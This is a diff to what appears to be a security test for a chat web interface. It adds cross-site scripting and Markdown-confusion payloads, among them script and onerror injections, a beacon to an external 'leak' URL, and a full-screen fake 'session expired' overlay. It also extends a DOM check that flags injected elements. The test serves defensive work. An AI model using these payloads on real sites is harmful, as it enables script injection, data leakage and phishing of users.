@@ -28,6 +28,7 @@ AWAY = "https://example.org/leak"
 HERE = (
     "gradio_api/leak"  # a request that would stay, and tell nobody, but that nothing here asks for
 )
+COVER = '<div style="position:fixed;inset:0"><img src="leak">Your session has expired</div>'
 HOSTILE = (
     f"<script>{ACT}</script><script src={AWAY}.js></script><ScRiPt >{ACT}</sCrIpT>",
     f'<img src=x onerror={ACT}><img src="{AWAY}.png"><img src={HERE}><svg onload={ACT}><svg/onload={ACT}//>',
@@ -58,11 +59,18 @@ HOSTILE = (
     f"<|object_ref_start|><img src=x onerror={ACT}>${{{ACT}}}<|object_ref_end|><|box_start|>(10,10),(900,900)<|box_end|>",
     f'[{{"bbox_2d": [1, 2, 30, 40], "label": "</div><img src=x onerror={ACT}>"}}]',
     f"&lt;img src=x onerror={ACT}&gt; &amp;lt;script&amp;gt; <<script>script>{ACT}<</script>/script> <!--><img src=x onerror={ACT}>",
+    # What looks like code to one reader of Markdown and not to another.
+    f"\\`{COVER}` \\`![a](leak)`",
+    f"a `b\n# c\n{COVER}` d\n- `e\n- {COVER}`\n\n| `f |\n|---|\n| {COVER}` |",
+    f"- ```\n  a\n{COVER}\n```\n\n- ```\n  ```\n  {COVER}",
+    f"$$\n```\n$$\n{COVER}\n```\n\n```\n```~~~\n{COVER}\n```",
+    f"```\n$$\n```\n$$\n```\n{COVER}\n```\n\n~~~ {COVER}\n~~~",
     ">" * 300 + " deep " + "- " * 200 + "*" * 2001 + "[" * 300 + "](" * 50,
 )  # fmt: skip
 # What there is on a page that only shows text, its pictures and links; event handlers are attributes.
 ALIVE = """() => [...document.querySelectorAll('#chatbot *, #live *, #compared *, #tray *, dialog *')]
   .filter((e) => /^(script|iframe|object|embed|link|meta|base|template)$/i.test(e.localName)
+    || e.matches('.bot :is([style*=fixed], .prose img)')
     || e.matches('.message :is(form, style, input:not([type=checkbox]), video, audio):not([id^=mermaid] *)')
     || [...e.attributes].some((a) => /^on/i.test(a.name))
     || /^\\s*(javascript|vbscript|data:text)/i.test(e.getAttribute('href') ?? '')
